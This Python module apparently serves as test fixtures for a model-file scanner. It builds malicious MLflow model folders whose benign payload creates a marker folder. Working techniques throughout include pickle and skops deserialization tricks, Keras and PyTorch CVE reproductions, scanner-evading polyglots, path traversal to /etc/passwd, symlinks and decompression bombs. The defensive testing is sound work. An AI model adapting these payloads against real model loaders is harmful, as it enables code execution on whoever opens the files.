"""Models that attack whoever opens them, made by code.

The payload is harmless: it makes the folder that it is told, and a test looks whether that is there. Each function
writes a model's folder around one known trick; `ATTACKS` has them all.
"""

from __future__ import annotations

import base64
import gzip
import io
import json
import lzma
import marshal
import os
import pickle
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import yaml

Attack = Callable[[Path, Path], None]
ATTACKS: dict[str, Attack] = {}


class Payload:
    """Makes a folder when it is unpickled."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[Any, ...]:
        return os.mkdir, (str(self.marker),)


def attack(build: Attack) -> Attack:
    ATTACKS[build.__name__] = build
    return build


def mlmodel(folder: Path, **flavors: Any) -> None:
    """Write an MLmodel with those flavors."""
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "MLmodel").write_text(
        yaml.safe_dump({"flavors": flavors, "mlflow_version": "3.17.2"})
    )


def sklearn_model(folder: Path, file: str, content: bytes, **more: Any) -> None:
    """A scikit-learn model whose payload is in that file."""
    conf = {
        "pickled_model": file,
        "serialization_format": "skops",
        "sklearn_version": "1.7.0",
        **more,
    }
    function = {"loader_module": "mlflow.sklearn", "model_path": file, "predict_fn": "predict"}
    mlmodel(folder, sklearn=conf, python_function=function)
    (folder / file).parent.mkdir(parents=True, exist_ok=True)
    (folder / file).write_bytes(content)


def zipped(**members: bytes | str) -> bytes:
    """A zip archive; ``__`` in a name stands for a slash, ``_dot_`` for a dot."""
    return zip_of(
        {
            name.replace("__", "/").replace("_dot_", "."): content
            for name, content in members.items()
        }
    )


def zip_of(members: dict[str, bytes | str], compression: int = zipfile.ZIP_STORED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return out.getvalue()


def text_pickle(marker: Path) -> bytes:
    """Protocol 0: nothing but text."""
    return b"cos\nmkdir\n(S'%s'\ntR." % str(marker).encode()


# Pickles


@attack
def pickle_as_model(folder: Path, marker: Path) -> None:
    sklearn_model(folder, "model.pkl", pickle.dumps(Payload(marker)))


@attack
def pickle_called_skops(folder: Path, marker: Path) -> None:
    sklearn_model(folder, "model.skops", pickle.dumps(Payload(marker)))


@attack
def pickle_as_text(folder: Path, marker: Path) -> None:
    sklearn_model(folder, "weights.txt", text_pickle(marker))


@attack
def pickle_as_text_behind_padding(folder: Path, marker: Path) -> None:
    """The call lies behind more than anybody reads of a file's beginning."""
    padding = b"S'%s'\n0" % (b"a" * 200_000)
    sklearn_model(folder, "weights.txt", padding + text_pickle(marker))


@attack
def pickle_with_a_broken_tail(folder: Path, marker: Path) -> None:
    """It has run before its end is found to be missing."""
    sklearn_model(folder, "weights.bin", pickle.dumps(Payload(marker), 2)[:-1] + b"\xff\xff\xff")


@attack
def pickle_with_inst(folder: Path, marker: Path) -> None:
    sklearn_model(folder, "weights.bin", b"(S'%s'\nios\nmkdir\n." % str(marker).encode())


@attack
def pickle_with_a_confused_memo(folder: Path, marker: Path) -> None:
    """Says one thing to whoever counts MEMOIZE alone, and another to pickle."""
    content = (
        b"\x80\x04" + b"U\x05posix" + b"q\x00" + b"U\x05mkdir" + b"q\x01"
        + b"\x8c\x0ctorch._utils\x94" + b"\x8c\x12_rebuild_tensor_v2\x94"
        + b"h\x00h\x01\x93" + b"\x8c" + bytes([len(str(marker))]) + str(marker).encode() + b"\x85R."
    )  # fmt: skip
    sklearn_model(folder, "weights.bin", content)


@attack
def pickle_with_a_computed_name(folder: Path, marker: Path) -> None:
    """The name of what is imported is put together while it runs."""
    content = (
        b"\x80\x04" + b"cbuiltins\ngetattr\n" + b"cbuiltins\nstr\n" + b"\x8c\x05upper\x86R"
        + b"\x8c\x02os\x85R" + b"\x8c\x05mkdir\x93."
    )  # fmt: skip
    sklearn_model(folder, "weights.bin", content)


@attack
def pickle_in_a_pickle(folder: Path, marker: Path) -> None:
    class Outer:
        def __reduce__(self) -> tuple[Any, ...]:
            return pickle.loads, (pickle.dumps(Payload(marker)),)

    sklearn_model(folder, "model.pkl", pickle.dumps(Outer()))


@attack
def pickle_by_a_little_known_way(folder: Path, marker: Path) -> None:
    """No list of forbidden names has them all."""
    sklearn_model(folder, "model.pkl", b"\x80\x02cmailcap\nfindmatch\n.")


@attack
def pickle_by_the_extension_registry(folder: Path, marker: Path) -> None:
    sklearn_model(folder, "model.pkl", b"\x80\x02\x82\x01)R.")


@attack
def joblib_compressed(folder: Path, marker: Path) -> None:
    sklearn_model(folder, "model.bin", zlib.compress(pickle.dumps(Payload(marker))))


@attack
def gzip_compressed(folder: Path, marker: Path) -> None:
    sklearn_model(folder, "model.bin", gzip.compress(pickle.dumps(Payload(marker))))


@attack
def xz_compressed(folder: Path, marker: Path) -> None:
    sklearn_model(folder, "model.bin", lzma.compress(pickle.dumps(Payload(marker))))


@attack
def gzip_cut_off(folder: Path, marker: Path) -> None:
    """What comes out before the damage has run by then."""
    noise = os.urandom(200_000)
    sklearn_model(
        folder, "model.bin", gzip.compress(pickle.dumps(Payload(marker)) + noise)[:-1_000]
    )


@attack
def python_model(folder: Path, marker: Path) -> None:
    mlmodel(
        folder,
        python_function={
            "loader_module": "mlflow.pyfunc.model",
            "python_model": "python_model.pkl",
        },
    )
    (folder / "python_model.pkl").write_bytes(pickle.dumps(Payload(marker)))


@attack
def lightgbm_wrapper(folder: Path, marker: Path) -> None:
    mlmodel(
        folder, lightgbm={"data": "model.pkl", "model_class": "lightgbm.sklearn.LGBMClassifier"}
    )
    (folder / "model.pkl").write_bytes(pickle.dumps(Payload(marker)))


@attack
def pandas_example(folder: Path, marker: Path) -> None:
    mlmodel(folder, sklearn={"pickled_model": "model.skops"})
    (folder / "input_example.json").write_bytes(pickle.dumps(Payload(marker)))


@attack
def torch_in_transformers(folder: Path, marker: Path) -> None:
    mlmodel(folder, transformers={"model_binary": "model"})
    (folder / "model").mkdir()
    (folder / "model" / "config.json").write_text('{"model_type": "bert"}')
    (folder / "model" / "optimizer.bin").write_bytes(
        zip_of({"optimizer/data.pkl": pickle.dumps(Payload(marker), 2)})
    )


# Arrays


def object_array(marker: Path) -> bytes:
    out = io.BytesIO()
    np.save(out, np.array([Payload(marker)], dtype=object), allow_pickle=True)
    return out.getvalue()


@attack
def numpy_objects(folder: Path, marker: Path) -> None:
    mlmodel(folder, sklearn={"pickled_model": "model.skops"})
    (folder / "example.npy").write_bytes(object_array(marker))


@attack
def numpy_archive(folder: Path, marker: Path) -> None:
    mlmodel(folder, sklearn={"pickled_model": "model.skops"})
    (folder / "example.npz").write_bytes(zip_of({"a.npy": object_array(marker)}))


# skops


def skops_file(tree: dict[str, Any], **members: bytes) -> bytes:
    return zip_of(
        {"schema.json": json.dumps({"protocol": 2, "_skops_version": "0.16.0", **tree}), **members}
    )


def skops_text(text: str) -> dict[str, Any]:
    return {
        "__class__": "str",
        "__module__": "builtins",
        "__loader__": "JsonNode",
        "content": json.dumps(text),
    }


def skops_tuple(*content: Any) -> dict[str, Any]:
    return {
        "__class__": "tuple",
        "__module__": "builtins",
        "__loader__": "TupleNode",
        "content": list(content),
    }


def skops_call(marker: Path) -> dict[str, Any]:
    """``os.mkdir(marker)`` for a loader who trusts the names in it."""
    return {
        "__class__": "mkdir", "__module__": "os", "__loader__": "ConstructorFromReduceNode",
        "content": skops_tuple(skops_text(str(marker))), "__id__": 1,
    }  # fmt: skip


@attack
def skops_that_brings_its_own_trust(folder: Path, marker: Path) -> None:
    """MLmodel lists as trusted what the file asks for."""
    sklearn_model(
        folder, "model.skops", skops_file(skops_call(marker)), skops_trusted_types=["os.mkdir", "builtins.tuple"]
    )  # fmt: skip


@attack
def skops_operator(folder: Path, marker: Path) -> None:
    """CVE-2025-54412: a call that is named as an estimator."""
    tree = {
        "__class__": "call", "__module__": "sklearn.linear_model._stochastic_gradient.SGDRegressor",
        "__loader__": "OperatorFuncNode",
        "attrs": skops_tuple(
            {"__class__": "mkdir", "__module__": "os", "__loader__": "TypeNode", "__id__": 5}, skops_text(str(marker))
        ),
        "__id__": 10,
    }  # fmt: skip
    sklearn_model(folder, "model.skops", skops_file(tree))


@attack
def skops_method(folder: Path, marker: Path) -> None:
    """CVE-2025-54413: a method whose object is another than it says."""
    tree = {
        "__class__": "builtin_function_or_method", "__module__": "builtins", "__loader__": "MethodNode",
        "content": {
            "func": "mkdir",
            "obj": {"__class__": "os", "__module__": "sys", "__loader__": "TypeNode", "__id__": 2},
        },
        "__id__": 3,
    }  # fmt: skip
    sklearn_model(folder, "model.skops", skops_file(tree))


@attack
def skops_partial(folder: Path, marker: Path) -> None:
    tree = {
        "__class__": "partial", "__module__": "functools", "__loader__": "PartialNode",
        "content": {
            "func": {"__class__": "system", "__module__": "os", "__loader__": "FunctionNode"},
            "args": skops_tuple(skops_text("true")),
            "kwds": {"__class__": "dict", "__module__": "builtins", "__loader__": "DictNode", "content": {},
                     "key_types": {"__class__": "list", "__module__": "builtins", "__loader__": "ListNode", "content": []}},
            "namespace": {"__class__": "dict", "__module__": "builtins", "__loader__": "DictNode", "content": {},
                          "key_types": {"__class__": "list", "__module__": "builtins", "__loader__": "ListNode", "content": []}},
        },
    }  # fmt: skip
    sklearn_model(folder, "model.skops", skops_file(tree))


@attack
def skops_with_a_pickled_array(folder: Path, marker: Path) -> None:
    tree = {
        "__class__": "ndarray", "__module__": "numpy", "__loader__": "NdArrayNode", "type": "numpy", "file": "1.npy",
    }  # fmt: skip
    sklearn_model(folder, "model.skops", skops_file(tree, **{"1.npy": object_array(marker)}))


@attack
def skops_with_a_pickle_in_it(folder: Path, marker: Path) -> None:
    sklearn_model(
        folder, "model.skops", skops_file(skops_text("harmless"), **{"more.bin": pickle.dumps(Payload(marker))})
    )  # fmt: skip


# PyTorch


def torch_zip(marker: Path) -> bytes:
    return zip_of({"archive/data.pkl": pickle.dumps(Payload(marker), 2), "archive/version": "3\n"})


def torch_model(folder: Path, content: bytes, file: str = "data/model.pth") -> None:
    mlmodel(
        folder,
        pytorch={"model_data": "data", "pytorch_version": "2.5.0"},
        python_function={"loader_module": "mlflow.pytorch", "data": "data"},
    )
    (folder / file).parent.mkdir(parents=True, exist_ok=True)
    (folder / file).write_bytes(content)


@attack
def torch_pickle(folder: Path, marker: Path) -> None:
    torch_model(folder, torch_zip(marker))


@attack
def torch_pickle_of_old(folder: Path, marker: Path) -> None:
    head = pickle.dumps(0x1950A86A20F9469CFC6C, 2) + pickle.dumps(1001, 2) + pickle.dumps({}, 2)
    torch_model(folder, head + pickle.dumps(Payload(marker), 2))


@attack
def torch_pickle_marked_as_encrypted(folder: Path, marker: Path) -> None:
    """PyTorch does not look at the mark; zip readers of Python refuse to look inside."""
    content = bytearray(torch_zip(marker))
    for magic, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = content.find(magic)
        while at >= 0:
            content[at + offset] |= 1
            at = content.find(magic, at + 4)
    torch_model(folder, bytes(content))


@attack
def torch_pickle_with_a_wrong_checksum(folder: Path, marker: Path) -> None:
    content = bytearray(torch_zip(marker))
    for magic, offset in ((b"PK\x03\x04", 14), (b"PK\x01\x02", 16)):
        at = content.find(magic)
        while at >= 0:
            content[at + offset : at + offset + 4] = b"\1\2\3\4"
            at = content.find(magic, at + 4)
    torch_model(folder, bytes(content))


@attack
def torch_pickle_under_another_name(folder: Path, marker: Path) -> None:
    torch_model(
        folder,
        zip_of({"archive/data.PKL_": pickle.dumps(Payload(marker), 2)}),
        "data/weights.safetensors",
    )


@attack
def torch_module_to_import(folder: Path, marker: Path) -> None:
    torch_model(folder, b"evil_module", "data/pickle_module_info.txt")


@attack
def torch_program(folder: Path, marker: Path) -> None:
    members = {
        "m/data.pkl": b"\x80\x02}.",
        "m/code/__torch__.py": "def forward(self): ...",
        "m/constants.pkl": b"\x80\x02).",
    }
    torch_model(folder, zip_of(members))


def torch_export(**members: bytes | str) -> bytes:
    return zip_of(
        {"m/archive_format": "pt2", "m/archive_version": "0", "m/models/model.json": "{}"}
        | {f"m/{name}": content for name, content in members.items()}
    )


@attack
def torch_export_with_an_opaque_object(folder: Path, marker: Path) -> None:
    torch_model(
        folder,
        torch_export(**{"data/constants/opaque_obj_0": pickle.dumps(Payload(marker))}),
        "data/model.pt2",
    )


@attack
def torch_export_with_an_expression(folder: Path, marker: Path) -> None:
    """What is read as the size of a tensor is evaluated."""
    graph = {
        "sizes": [{"as_expr": {"expr_str": f"__import__('os').mkdir('{marker}')", "hint": None}}]
    }
    torch_model(folder, torch_export(**{"models/model.json": json.dumps(graph)}), "data/model.pt2")


@attack
def torch_export_that_calls_what_it_likes(folder: Path, marker: Path) -> None:
    graph = {"nodes": [{"target": "torch.hub.os.mkdir", "inputs": [], "outputs": []}]}
    torch_model(folder, torch_export(**{"models/model.json": json.dumps(graph)}), "data/model.pt2")


# Keras


def keras_file(layer: dict[str, Any], **members: bytes) -> bytes:
    config = {
        "module": "keras",
        "class_name": "Sequential",
        "config": {"name": "s", "layers": [layer]},
        "registered_name": None,
    }
    return zip_of(
        {
            "metadata.json": '{"keras_version": "3.9.0"}',
            "config.json": json.dumps(config),
            **members,
        }
    )


def keras_model(folder: Path, content: bytes, file: str = "data/model.keras") -> None:
    mlmodel(folder, keras={"data": "data", "save_format": "keras"})
    (folder / file).parent.mkdir(parents=True, exist_ok=True)
    (folder / file).write_bytes(content)


def keras_function(module: str, name: str, **arguments: Any) -> dict[str, Any]:
    """A Lambda layer over a function that is named."""
    function = {"module": module, "class_name": "function", "config": name, "registered_name": name}
    return {
        "module": "keras.layers",
        "class_name": "Lambda",
        "config": {"function": function, "arguments": arguments},
    }


def bytecode() -> str:
    return base64.b64encode(marshal.dumps((lambda x: x).__code__)).decode()


@attack
def keras_lambda(folder: Path, marker: Path) -> None:
    function = {
        "class_name": "__lambda__",
        "config": {"code": bytecode(), "defaults": None, "closure": None},
    }
    layer = {"module": "keras.layers", "class_name": "Lambda", "config": {"function": function}}
    keras_model(folder, keras_file(layer))


@attack
def keras_module(folder: Path, marker: Path) -> None:
    """CVE-2025-1550: the configuration names what is imported and called."""
    keras_model(
        folder,
        keras_file(
            {
                "module": "os",
                "class_name": "function",
                "config": "mkdir",
                "registered_name": "mkdir",
            }
        ),
    )


@attack
def keras_that_turns_safe_mode_off(folder: Path, marker: Path) -> None:
    """CVE-2025-9906."""
    keras_model(folder, keras_file(keras_function("keras.config", "enable_unsafe_deserialization")))


@attack
def keras_that_fetches(folder: Path, marker: Path) -> None:
    """CVE-2025-8747: a function of Keras itself fetches and unpacks."""
    layer = {
        "module": "keras.utils",
        "class_name": "function",
        "config": "get_file",
        "registered_name": "get_file",
    }
    keras_model(folder, keras_file(layer))


@attack
def keras_that_reads_a_file(folder: Path, marker: Path) -> None:
    """CVE-2025-12058: a vocabulary from any path."""
    layer = {
        "module": "keras.layers",
        "class_name": "StringLookup",
        "config": {"vocabulary": "/etc/passwd"},
    }
    keras_model(folder, keras_file(layer))


@attack
def keras_wrapper_of_torch(folder: Path, marker: Path) -> None:
    layer = {
        "module": "keras.layers",
        "class_name": "TorchModuleWrapper",
        "config": {"module": bytecode()},
    }
    keras_model(folder, keras_file(layer))


@attack
def keras_of_old(folder: Path, marker: Path) -> None:
    """CVE-2025-9905: safe mode is not asked."""
    import h5py

    with h5py.File(in_new(folder, "data/model.h5"), "w") as file:
        file.attrs["model_config"] = json.dumps({"class_name": "Sequential", "config": {}})
    mlmodel(folder, keras={"data": "data", "save_format": "h5"})


@attack
def keras_weights_from_elsewhere(folder: Path, marker: Path) -> None:
    """CVE-2026-1669: weights that are a link to another file."""
    import h5py

    weights = io.BytesIO()
    with h5py.File(weights, "w") as file:
        file["layers"] = h5py.ExternalLink("/etc/secret.h5", "/")
    layer = {
        "module": "keras.layers",
        "class_name": "Dense",
        "config": {"units": 1},
        "registered_name": None,
    }
    keras_model(folder, keras_file(layer, **{"model.weights.h5": weights.getvalue()}))


@attack
def keras_weights_that_claim_too_much(folder: Path, marker: Path) -> None:
    import h5py

    weights = io.BytesIO()
    with h5py.File(weights, "w") as file:
        file.create_dataset("vars/0", shape=(1 << 40,), dtype="f8", chunks=(1 << 10,))
    layer = {
        "module": "keras.layers",
        "class_name": "Dense",
        "config": {"units": 1},
        "registered_name": None,
    }
    keras_model(folder, keras_file(layer, **{"model.weights.h5": weights.getvalue()}))


@attack
def keras_pickled_objects(folder: Path, marker: Path) -> None:
    layer = {
        "module": "keras.layers",
        "class_name": "Dense",
        "config": {"units": 1},
        "registered_name": None,
    }
    keras_model(folder, keras_file(layer))
    (folder / "data" / "custom_objects.cloudpickle").write_bytes(pickle.dumps(Payload(marker)))


@attack
def keras_that_is_skops_as_well(folder: Path, marker: Path) -> None:
    """A harmless file of skops to who looks for that, and a Lambda layer to Keras."""
    schema = json.dumps({"protocol": 2, "_skops_version": "0.16.0", **skops_text("harmless")})
    keras_model(
        folder, keras_file(keras_function("os", "mkdir"), **{"schema.json": schema.encode()})
    )


@attack
def keras_as_a_folder(folder: Path, marker: Path) -> None:
    """Keras opens folders, too; the name of the class is written with an escape."""
    mlmodel(folder, keras={"data": "data", "save_format": "keras"})
    function = {"class_name": "__lambda__", "config": {"code": bytecode()}}
    layer = {"module": "keras.layers", "class_name": "Lambda", "config": {"function": function}}
    config = json.dumps(
        {"module": "keras", "class_name": "Sequential", "config": {"layers": [layer]}}
    )
    in_new(folder, "data/model.keras/config.json").write_text(
        config.replace("class_", "\\u0063lass_")
    )


@attack
def keras_of_old_behind_other_bytes(folder: Path, marker: Path) -> None:
    """HDF5 may begin at any power of two."""
    import h5py

    with h5py.File(in_new(folder, "data/model.bin"), "w", userblock_size=1 << 16) as file:
        file.attrs["model_config"] = json.dumps({"class_name": "Sequential", "config": {}})
    mlmodel(folder, keras={"data": "data", "save_format": "h5"})


@attack
def torch_export_that_is_skops_as_well(folder: Path, marker: Path) -> None:
    schema = json.dumps({"protocol": 2, "_skops_version": "0.16.0", **skops_text("harmless")})
    graph = {"nodes": [{"target": "torch.hub.os.mkdir", "inputs": [], "outputs": []}]}
    archive = torch_export(**{"models/model.json": json.dumps(graph)})
    with zipfile.ZipFile(io.BytesIO(archive)) as old:
        members: dict[str, bytes | str] = {name: old.read(name) for name in old.namelist()}
    torch_model(folder, zip_of(members | {"schema.json": schema}), "data/model.pt2")


# ONNX, safetensors


def protobuf(field: int, content: bytes) -> bytes:
    length, out = len(content), bytearray()
    while length > 0x7F:
        out.append(length & 0x7F | 0x80)
        length >>= 7
    return bytes([field << 3 | 2]) + bytes([*out, length]) + content


def onnx_reading(location: str) -> bytes:
    """A model whose one tensor takes its numbers from that place."""
    entry = protobuf(13, protobuf(1, b"location") + protobuf(2, location.encode()))
    return b"\x08\x08" + protobuf(7, protobuf(5, protobuf(8, b"w") + entry))


@attack
def onnx_external_data(folder: Path, marker: Path) -> None:
    """CVE-2024-27318 and its like."""
    mlmodel(folder, onnx={"data": "model.onnx"})
    (folder / "model.onnx").write_bytes(onnx_reading("../../../etc/passwd"))


@attack
def onnx_external_data_of_an_attribute(folder: Path, marker: Path) -> None:
    mlmodel(folder, onnx={"data": "model.onnx"})
    tensor = protobuf(13, protobuf(1, b"location") + protobuf(2, b"/etc/passwd"))
    node = protobuf(4, b"Constant") + protobuf(5, protobuf(1, b"value") + protobuf(5, tensor))
    (folder / "model.onnx").write_bytes(b"\x08\x08" + protobuf(7, protobuf(1, node)))


@attack
def onnx_under_another_name(folder: Path, marker: Path) -> None:
    """Its parts in another order, so that it does not begin as ONNX does."""
    mlmodel(folder, onnx={"data": "weights.bin"})
    (folder / "weights.bin").write_bytes(
        onnx_reading("../../../etc/passwd")[2:] + b"\x08\x08\x1a\x01\0"
    )


@attack
def safetensors_with_a_hole(folder: Path, marker: Path) -> None:
    header = json.dumps({"w": {"dtype": "F32", "shape": [1], "data_offsets": [100, 104]}}).encode()
    mlmodel(folder, transformers={"model_binary": "model"})
    (folder / "model.safetensors").write_bytes(
        struct.pack("<Q", len(header)) + header + b"\0" * 104
    )


# Archives


@attack
def pickle_in_archives(folder: Path, marker: Path) -> None:
    inner = zip_of(
        {"b.zip": zip_of({"model.pkl": pickle.dumps(Payload(marker))})}, zipfile.ZIP_DEFLATED
    )
    mlmodel(folder, sklearn={"pickled_model": "model.skops"})
    (folder / "more.zip").write_bytes(inner)


@attack
def pickle_in_a_tar(folder: Path, marker: Path) -> None:
    mlmodel(folder, sklearn={"pickled_model": "model.skops"})
    with tarfile.open(folder / "more.tar.gz", "w:gz") as archive:
        content = pickle.dumps(Payload(marker))
        member = tarfile.TarInfo("model.pkl")
        member.size = len(content)
        archive.addfile(member, io.BytesIO(content))


@attack
def archive_that_leads_out(folder: Path, marker: Path) -> None:
    mlmodel(folder, sklearn={"pickled_model": "model.skops"})
    (folder / "more.zip").write_bytes(zip_of({"../../evil.py": "x"}))


@attack
def archive_with_a_member_twice(folder: Path, marker: Path) -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("schema.json", json.dumps({"protocol": 2, **skops_text("harmless")}))
        archive.filelist[0].filename = "other.json"
        archive.NameToInfo.clear()
        archive.writestr("schema.json", json.dumps({"protocol": 2, **skops_call(marker)}))
        archive.filelist[0].filename = "schema.json"
    sklearn_model(folder, "model.skops", out.getvalue())


@attack
def archive_and_pickle_in_one(folder: Path, marker: Path) -> None:
    """An archive to who looks at the end, a pickle to who begins at the beginning."""
    harmless = skops_file(skops_text("harmless"))
    sklearn_model(folder, "model.skops", pickle.dumps(Payload(marker)) + harmless)


@attack
def decompression_bomb(folder: Path, marker: Path) -> None:
    mlmodel(folder, sklearn={"pickled_model": "model.skops"})
    layer = zlib.compressobj(1, wbits=31)
    block = bytes(1 << 24)
    content = b"".join(layer.compress(block) for _ in range(5)) + layer.flush()
    (folder / "more.gz").write_bytes(content)


@attack
def sevenzip(folder: Path, marker: Path) -> None:
    torch_model(folder, b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(100))


# Folders and documents


def in_new(folder: Path, name: str) -> Path:
    file = folder / name
    file.parent.mkdir(parents=True, exist_ok=True)
    return file


@attack
def code_to_import(folder: Path, marker: Path) -> None:
    mlmodel(folder, python_function={"loader_module": "mlflow.sklearn", "code": "code"})
    in_new(folder, "code/sklearn/__init__.py").write_text(f"import os\nos.mkdir({str(marker)!r})\n")


@attack
def native_code(folder: Path, marker: Path) -> None:
    mlmodel(folder, xgboost={"data": "model.ubj"})
    (folder / "model.ubj").write_bytes(b"\x7fELF\x02\x01\x01" + bytes(200))


@attack
def module_of_the_models_choice(folder: Path, marker: Path) -> None:
    mlmodel(folder, python_function={"loader_module": "antigravity", "data": "data"})


@attack
def model_from_code(folder: Path, marker: Path) -> None:
    mlmodel(
        folder,
        python_function={"loader_module": "mlflow.pyfunc.model", "model_code_path": "model.txt"},
    )
    (folder / "model.txt").write_text(f"import os\nos.mkdir({str(marker)!r})\n")


@attack
def path_out_of_the_folder(folder: Path, marker: Path) -> None:
    mlmodel(folder, sklearn={"pickled_model": "../../../home/you/model.skops"})


@attack
def yaml_tag(folder: Path, marker: Path) -> None:
    folder.mkdir(parents=True)
    (folder / "MLmodel").write_text(f"flavors: !!python/object/apply:os.mkdir ['{marker}']\n")


@attack
def remote_code_in_a_long_file(folder: Path, marker: Path) -> None:
    mlmodel(folder, transformers={"model_binary": "model"})
    with in_new(folder, "model/config.json").open("w") as file:
        file.write('{"learner": 1,' + " " * (65 << 20) + '"auto_map": {"AutoModel": "evil.Evil"}}')


@attack
def kernel_from_a_repository(folder: Path, marker: Path) -> None:
    mlmodel(folder, transformers={"model_binary": "model"})
    config = {"learner": 1, "_attn_implementation": "evil/kernels"}
    in_new(folder, "model/config.json").write_text(json.dumps(config))


@attack
def remote_code(folder: Path, marker: Path) -> None:
    mlmodel(folder, transformers={"model_binary": "model"})
    auto_map = {"AutoTokenizer": ["evil/repo--tokenizer.Evil", None]}
    in_new(folder, "model/tokenizer_config.json").write_text(json.dumps({"auto_map": auto_map}))


@attack
def link_out_of_the_folder(folder: Path, marker: Path) -> None:
    mlmodel(folder, sklearn={"pickled_model": "model.skops"})
    (folder / "model.skops").symlink_to("/etc/passwd")


@attack
def folder_link(folder: Path, marker: Path) -> None:
    mlmodel(folder, sklearn={"pickled_model": "data/model.skops"})
    (folder / "data").symlink_to("/etc")


@attack
def fifo(folder: Path, marker: Path) -> None:
    """Whoever opens it waits for ever."""
    mlmodel(folder, sklearn={"pickled_model": "model.skops"})
    os.mkfifo(folder / "model.skops")


@attack
def sparse_file(folder: Path, marker: Path) -> None:
    mlmodel(folder, sklearn={"pickled_model": "model.skops"})
    with (folder / "model.skops").open("wb") as file:
        file.truncate((1 << 42) + 1)
